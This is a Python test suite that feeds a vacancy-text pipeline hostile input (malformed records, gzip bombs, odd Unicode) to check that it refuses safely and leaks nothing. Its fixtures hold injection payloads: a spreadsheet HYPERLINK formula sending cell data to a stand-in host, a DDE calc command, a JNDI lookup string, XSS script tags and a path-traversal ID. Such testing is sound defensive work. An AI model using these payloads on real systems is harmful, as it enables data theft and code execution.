"""Hostile input in every format: each record becomes a document or one refusal, nothing else is lost, nothing is told of what it held."""

import gzip
import json
import random
import subprocess
import sys
import time

import orjson
import pytest

from pipeline.config import Settings
from pipeline.errors import RecordError
from pipeline.reading import READERS, ReadDocument
from pipeline.reading.files import NEVER_ZIPPED
from tests.conftest import ROOT
from tests.pipeline.inputs import OTHER, TEXT, WAYS, document, docx, jsonl, parquet, pdf, read, refusal, write

SECRET = "Willemijn Achternaamsma"
STRANGE_TEXTS = {
    "right to left": f"{OTHER} \u202eredrow\u202c \u2067שלום\u2069",
    "zero width": "Wij zoe\u200bken een k\u200dok\ufeff met er\u00advaring\u2060.",
    "formula": f"=HYPERLINK(\"http://kwaad.example/?\"&A1;\"klik\")\n@SUM(1+1)*cmd|' /C calc'!A0\n{OTHER}",
    "turtle": f'een kok" . <http://kwaad.example/a> <http://kwaad.example/b> <http://kwaad.example/c> . # {OTHER}',
    "script": f"<script>alert(1)</script><img src=x onerror=alert(1)> {OTHER}",
    "controls": f"{OTHER}\x1b[31m\x07\x08\x7f\x85\x0b",
    "private use": f"{OTHER} \ue000\uf8ff\U000f0000",
    "combining": "Wij zoeken een kok" + "\u0316\u0301" * 200,
    "template": "${jndi:ldap://x} {{7*7}} %s %n {0} " + OTHER,
    "separators": OTHER.replace(" ", "\u2028", 2).replace(" ", "\u3000", 2),
}
STRANGE_IDS = ['een "q"', "a\nb", "<a> <b>", "../../etc/passwd", "a\tb", "=1+1", "\u202eid", "\u200b", "x" * 500, "%00", "a#b?c=d", "{}|^`\\", "é" * 200, " spatie "]


@pytest.mark.parametrize("name", STRANGE_TEXTS)
def test_strange_characters_come_through_every_record_format_unchanged(tmp_path, name):
    text = STRANGE_TEXTS[name]
    if name == "script":
        pytest.skip("mark-up in records is read as HTML; see the next test")
    record = {"id": "x", "text": text}
    cell = text.replace('"', '""')
    write(tmp_path, a_csv=f'id,text\nx,"{cell}"\n', b_json=orjson.dumps([record]), c_jsonl=jsonl(record), d_parquet=parquet(record), e_txt=text)
    import unicodedata

    expected = unicodedata.normalize("NFC", text)
    assert [item.text for item in read(tmp_path)] == [expected] * 5


@pytest.mark.parametrize("field", ["text", "title"])
def test_thousands_of_marks_on_one_letter_are_refused_at_once(tmp_path, field):
    record = {"text": OTHER, field: "Wij zoeken een kok" + "\u0301" * 40_000 + "\u0316" * 40_000}
    started = time.monotonic()
    assert "combining marks" in refusal(write(tmp_path, a_jsonl=jsonl(record))).reason
    assert len(read(write(tmp_path, b_txt="e" + "\u0301\u0316" * 2_000_000))) == 2
    assert time.monotonic() - started < 10


def test_scripts_in_records_and_pages_are_no_text(tmp_path):
    write(tmp_path, a_html=STRANGE_TEXTS["script"], b_jsonl=jsonl({"text": f"<p>{STRANGE_TEXTS['script']}</p>"}))
    assert [item.text for item in read(tmp_path)] == [OTHER, OTHER]


@pytest.mark.parametrize("identifier", STRANGE_IDS)
def test_strange_ids_come_through_every_record_format_unchanged(tmp_path, identifier):
    record = {"id": identifier, "text": OTHER}
    cell = identifier.replace('"', '""')
    write(tmp_path, a_csv=f'id,text\n"{cell}",{OTHER}\n', b_json=orjson.dumps([record]), c_jsonl=jsonl(record), d_parquet=parquet(record))
    assert [item.id for item in read(tmp_path)] == [identifier] * 4


def hostile_lines(count):
    """Lines of JSON with what breaks programs, and every tenth a good one."""
    chance = random.Random(7)
    makers = (
        lambda: orjson.dumps({"text": SECRET})[: chance.randrange(1, 20)],
        lambda: b'{"text": "' + SECRET.encode() + b" \xff\xfe" + b'"}',
        lambda: b'{"text": "' + SECRET.encode() + b' \\ud800"}',
        lambda: orjson.dumps({"id": SECRET, "text": f"{SECRET}\0"}),
        lambda: b"[" * chance.randrange(1, 50_000),
        lambda: b'{"a":' * chance.randrange(1, 50_000),
        lambda: orjson.dumps({"text": ["x", SECRET]}),
        lambda: orjson.dumps({"id": {"a": SECRET}, "text": OTHER}),
        lambda: orjson.dumps({"text": "a" * 100_001}),
        lambda: orjson.dumps({"text": chance.choice(["", " ", "\u200b", "123", "—"])}),
        lambda: bytes(chance.randrange(1, 256) for _ in range(50)).replace(b"\n", b"").replace(b"\r", b"") + b"x",
        lambda: orjson.dumps({"text": "<div>" * 6000 + SECRET}),
        lambda: b"NaN", lambda: b"1e999999", lambda: b'{"text": 1e400}', lambda: orjson.dumps(SECRET),
        lambda: orjson.dumps({"text": OTHER, "kind": SECRET}), lambda: orjson.dumps({"naam": SECRET}),
    )  # fmt: skip
    return [orjson.dumps({"id": f"goed {n}", "text": f"{OTHER} {n}"}) if n % 10 == 0 else makers[n % len(makers)]() for n in range(count)]


def test_two_thousand_hostile_records_lose_nothing_and_tell_nothing(tmp_path):
    lines = hostile_lines(2000)
    (tmp_path / "a.jsonl").write_bytes(b"\n".join(lines))
    items = read(tmp_path)
    assert [item.location.split(" posting")[0] for item in items] == [f"a.jsonl:{n}" for n in range(1, 2001)]
    assert [item.id for item in items if isinstance(item, ReadDocument) and item.id.startswith("goed")] == [f"goed {n}" for n in range(0, 2000, 10)]
    faults = [item for item in items if isinstance(item, RecordError)]
    assert len(faults) > 1500
    assert [fault.reason for fault in faults if SECRET.split()[0] in fault.reason + fault.location] == []
    assert [fault.reason for fault in faults if "\n" in fault.reason or len(fault.reason) > 250] == []


@pytest.mark.parametrize("suffix", READERS)
def test_random_damage_in_any_format_is_refused_or_read_and_stops_nothing(tmp_path, suffix):
    chance = random.Random(11)
    long = {".pdf": pdf(TEXT * 5), ".docx": docx(*[TEXT] * 20), ".parquet": parquet(*({"id": n, "text": f"{TEXT} {n}"} for n in range(50)))}
    long[".xml"] = f"<SkillsPassport><LearnerInfo><WorkExperienceList><WorkExperience><Activities>{TEXT}</Activities></WorkExperience></WorkExperienceList></LearnerInfo></SkillsPassport>".encode()
    whole = long[suffix] if suffix in long else WAYS[suffix] * (20 if suffix in (".jsonl", ".ndjson", ".txt", ".md", ".csv", ".tsv") else 1)
    for number in range(40):
        damaged = bytearray(whole)
        for _ in range(chance.choice((1, 3, 30))):
            damaged[chance.randrange(len(damaged))] = chance.randrange(256)
        if number % 4 == 0:
            del damaged[chance.randrange(len(damaged)) :]
        (tmp_path / f"{number:02}{suffix}").write_bytes(damaged)
    write(tmp_path, zz_txt=OTHER)
    items = read(tmp_path)
    assert items[-1].text == OTHER
    named = {item.location.split(":")[0] for item in items}
    assert len([name for name in named if name.endswith(suffix)]) >= 38  # lines of white space are no records
    assert [item.reason for item in items if isinstance(item, RecordError) and ("\n" in item.reason or len(item.reason) > 300)] == []


@pytest.mark.parametrize("suffix", [suffix for suffix in READERS if suffix not in NEVER_ZIPPED])
def test_gzip_bombs_are_refused_before_they_are_unpacked(tmp_path, suffix):
    with gzip.open(tmp_path / f"a{suffix}.gz", "wb", compresslevel=9) as stream:
        stream.write({".csv": b"text\n", ".tsv": b"text\n", ".json": b"[", ".jsonld": b"["}.get(suffix, b""))
        for _ in range(60):
            stream.write((b" " * 99 + b"\n") * 10_000)
    write(tmp_path, b_txt=OTHER)
    started = time.monotonic()
    fault, good = read(tmp_path)
    assert good.text == OTHER and ("200 times" in fault.reason or "larger than" in fault.reason)
    assert time.monotonic() - started < 20


@pytest.mark.parametrize("name", ["a.pdf.gz", "a.docx.gz", "a.parquet.gz"])
def test_packed_formats_are_not_unpacked_twice(tmp_path, name):
    (tmp_path / name).write_bytes(gzip.compress(b"x"))
    assert "unpack it" in refusal(tmp_path).reason


def test_text_that_is_only_very_repetitive_is_no_bomb(tmp_path):
    (tmp_path / "a.jsonl.gz").write_bytes(gzip.compress(jsonl({"id": "a", "text": OTHER * 1000})))
    assert document(tmp_path).id == "a"


def test_many_unclosed_quotes_take_no_time(tmp_path):
    rows = "".join(f'{n},"kok {"x" * (n % 50)}\n' for n in range(30_000))
    started = time.monotonic()
    items = read(write(tmp_path, a_csv=f"id,text\n{rows}"))
    assert len(items) >= 15_000 and time.monotonic() - started < 30


MEMORY = """
import resource, sys
from pipeline.reading import read_sources
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
count = sum(1 for _ in read_sources([sys.argv[1]], "vacancy"))
print(count, (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="ru_maxrss is in kB on Linux")
@pytest.mark.parametrize("suffix", ["csv", "jsonl", "json", "jsonl.gz", "parquet"])
def test_memory_does_not_grow_with_the_file(tmp_path, suffix):
    texts = [f"{TEXT * 20} {n}" for n in range(8)]
    records = ({"id": n, "text": texts[n % 8], "language": "nl"} for n in range(40_000))
    path = tmp_path / f"a.{suffix}"
    if suffix == "parquet":
        path.write_bytes(parquet(*records, row_group_size=40_000, use_dictionary=False, compression="none"))
    elif suffix == "csv":
        path.write_text("id,text,language\n" + "".join(f'{r["id"]},"{r["text"]}",nl\n' for r in records))
    else:
        lines = [json.dumps(record) for record in records]
        content = ("[" + ",".join(lines) + "]" if suffix == "json" else "\n".join(lines)).encode()
        path.write_bytes(gzip.compress(content, 1) if suffix.endswith(".gz") else content)
    assert suffix.endswith(".gz") or path.stat().st_size > 75_000_000
    ran = subprocess.run([sys.executable, "-c", MEMORY, str(path)], capture_output=True, text=True, cwd=ROOT, env={"PYTHONPATH": str(ROOT)}, check=True)
    count, megabytes = map(int, ran.stdout.split())
    assert count == 40_000 and megabytes < 60, f"{megabytes} MB for a file of {path.stat().st_size / 1e6:.0f} MB"


def test_strange_texts_and_ids_do_no_harm_in_any_export(tmp_path, translator, monkeypatch):
    import pyarrow.parquet
    import pyoxigraph

    from pipeline.batches import batch
    from pipeline.config import FORMATS

    monkeypatch.setattr(batch.Translator, "load", classmethod(lambda cls, release=None, register=None: translator))
    records = [{"id": identifier, "text": f"Je hebt ervaring met Excel. {text}", "language": "nl"} for identifier, text in zip(STRANGE_IDS, [*STRANGE_TEXTS.values()] * 2)]
    source, out = tmp_path / "a.jsonl", tmp_path / "out"
    source.write_bytes(jsonl(*records))
    batch.run_batch([str(source)], out, Settings(formats=FORMATS, kind="vacancy"))
    quads = list(pyoxigraph.parse(gzip.decompress((out / "graph/part-00000.nq.gz").read_bytes()), format=pyoxigraph.RdfFormat.N_QUADS))
    triples = list(pyoxigraph.parse(gzip.decompress((out / "graph/part-00000.ttl.gz").read_bytes()), format=pyoxigraph.RdfFormat.TURTLE))
    rows = [json.loads(line) for line in gzip.decompress((out / "translations/part-00000.jsonl.gz").read_bytes()).splitlines()]
    assert [row["document"]["id"] for row in rows] == STRANGE_IDS
    assert len({quad.graph_name.value for quad in quads}) == len(STRANGE_IDS)
    iris = {term.value for found in (*quads, *triples) for term in (found.subject, found.predicate, found.object) if isinstance(term, pyoxigraph.NamedNode)}
    assert len(iris) > 50 and [iri for iri in iris if "kwaad.example" in iri] == []
    table = pyarrow.parquet.read_table(out / "tables/documents/part-00000.parquet").to_pylist()
    assert len(table) == len(STRANGE_IDS)
